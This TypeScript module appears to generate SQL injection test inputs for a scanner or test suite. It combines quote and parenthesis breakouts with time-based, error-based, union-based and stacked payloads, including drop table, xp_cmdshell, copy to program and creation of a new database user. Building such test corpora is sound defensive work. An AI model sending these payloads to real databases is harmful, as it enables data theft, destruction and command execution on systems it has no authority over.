// SQL injections written from the grammar: a way out of the literal, a shape, a way to make the rest of the query fit.
// Every combination is a text that some database would run where it expected one value.

/** What ends the literal and the parentheses around it. */
const BREAKOUTS: readonly (readonly [before: string, kind: 'number' | 'single' | 'double'])[] = [
  ['7', 'number'],
  ['-412', 'number'],
  ['7)', 'number'],
  ['7))', 'number'],
  ["rose'", 'single'],
  ["7'", 'single'],
  ["'", 'single'],
  ["rose')", 'single'],
  ["7'))", 'single'],
  ["rose%'", 'single'],
  ['rose"', 'double'],
  ['7")', 'double'],
  ['"))', 'double'],
]

const COMMENTS = ['-- ', '--', '#', '-- x', ';--', '/*', ';%00', '']
/** Suffixes that use up the closing quote of the query. */
const BALANCE = {
  number: [...COMMENTS.slice(0, 6), '', ' and 31=31'],
  single: [...COMMENTS.slice(0, 6), " and 'k'='k", " and 'tulip' like 'tulip", " or 'a'<'b"],
  double: [...COMMENTS.slice(0, 6), ' and "k"="k', ' or "a" is not null or "b"="b'],
}

/** Conditions: each stands after AND or OR. */
export const CONDITIONS: readonly string[] = [
  '1=1',
  '58=58',
  '2>1',
  '3 between 1 and 5',
  '4 in (4,5)',
  "'ab' like 'a%'",
  "'ab' rlike '^a'",
  'not 1=2',
  '!(1=2)',
  'exists(select 1)',
  'exists (select * from members where name like 0x6125)',
  '(select count(*) from members) > 0',
  '(select 71 from (select(sleep(4)))q)',
  'sleep(3)',
  'benchmark(4000000,sha1(1))',
  'ascii(substring((select pass from members limit 1),1,1))>64',
  "substr(version(),1,1)='8'",
  'length(database())=5',
  "(select substr(pass,1,1) from members where id=1)='a'",
  'extractvalue(1,concat(0x7e,(select version())))',
  'updatexml(1,concat(0x7e,user()),1)',
  '(select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)',
  'exp(~(select*from(select user())x))',
  '3127=cast((chr(113)||(select version())::text||chr(113)) as numeric)',
  '5=convert(int,(select char(113)+@@version))',
  '1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))',
  '1=ctxsys.drithsx.sn(1,(select user from dual))',
  '8=(select 8 from pg_sleep(4))',
  "77=dbms_pipe.receive_message('q',4)",
  'case when 2>1 then 1 else 0 end=1',
  '(case when (18=18) then 1 else 0 end)=1',
  'if(1=1,sleep(2),0)',
  'iif(9=9,1,1/0)=1',
  'elt(6=6,1)',
  'make_set(8=8,9)',
  'json_keys((select convert((select concat(0x71,user())) using utf8)))',
  'gtid_subset(concat(0x71,(select user())),6)',
  '@@version like 0x25',
  'isnull(1/0)',
  'coalesce(null,3)=3',
  'upper(hex(randomblob(90000000)))=1',
  "like('abc',upper(hex(randomblob(9000000))))",
  '(select count(*) from generate_series(1,5000000))>1',
  'row_count() is not null',
  'true',
  'null is null',
]

const LOGIC = [' or ', ' and ', ' OR ', ' xor ', '||', ' && ', ' and not ', ' or not ']

/** Whole continuations: each stands right after the breakout. */
export const CONTINUATIONS: readonly string[] = [
  ' union select 1,2,3',
  ' union all select null,null',
  ' union all select pass,2 from members',
  ' union distinct select * from members',
  ' union (select name,pass from members)',
  ' union select top 1 name from sysobjects',
  ' union all select concat(0x71,user(),0x71),null',
  ' union/**/select/**/1,@@version',
  ' union select 1 into outfile "/tmp/x"',
  ' order by 7',
  ' order by 1,2,3',
  ' group by 3 having 1=1',
  ' having 1=1',
  ' limit 1 union select 5',
  ' limit 0,1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)',
  ' and 1=1 union select 2',
  ';drop table members',
  '; delete from members where 1=1',
  ';insert into members(name) values (0x61)',
  ';update members set pass=0x61',
  '; exec xp_cmdshell(0x646972)',
  '; exec master..xp_cmdshell 0x61',
  ";waitfor delay '0:0:4'",
  " waitfor delay '0:0:4'",
  ';select pg_sleep(4)',
  ';select sleep(4)',
  ';select (case when (5=5) then 1 else 1/0 end)',
  ';declare @q nvarchar(4000) set @q=0x61 exec(@q)',
  ';if(1=1) select 1 else drop table members',
  ';begin dbms_lock.sleep(4); end',
  ';call sleep(2)',
  ';shutdown',
  ';create user eve identified by pw',
  ';alter table members add x int',
  ';truncate table members',
  ';copy members to program 0x61',
  ';grant all on members to eve',
  ' as q where 3=3 and 4=4',
  ' where 3=3 union select 1',
  ' in boolean mode) union all select 1,2',
  ' rlike (select (case when (2=2) then 1 else 0x28 end))',
  ' rlike sleep(3)',
  '+(select 1 from members where 2=2 and sleep(3))+1',
  '-(select sleep(3))',
  '*(select count(*) from members)',
  ',(select case when 1=1 then 1 else 1*(select 2 union select 3) end)',
  ' procedure analyse(1,1)',
  ' into outfile 0x2f',
  ' intersect select 1',
  ' except select name from members',
  ' minus select name from members',
  ' collate utf8_bin and 1=1',
  ' is null or 1=1',
  ' div 1 or 2=2',
]

export interface SqlAttack {
  readonly text: string
  /** The shape without breakout and suffix: what a report names. */
  readonly shape: string
}

/** All combinations, in a fixed order. */
export function sqlAttacks(): SqlAttack[] {
  const attacks: SqlAttack[] = []
  let turn = 0
  for (const [before, kind] of BREAKOUTS) {
    const suffixes = BALANCE[kind]
    const suffix = (): string => suffixes[turn++ % suffixes.length] as string
    for (const condition of CONDITIONS) {
      const logic = LOGIC[turn % LOGIC.length] as string
      attacks.push({ text: before + logic + condition + suffix(), shape: condition })
    }
    for (const continuation of CONTINUATIONS) {
      attacks.push({ text: before + continuation + suffix(), shape: continuation })
    }
  }
  return attacks
}
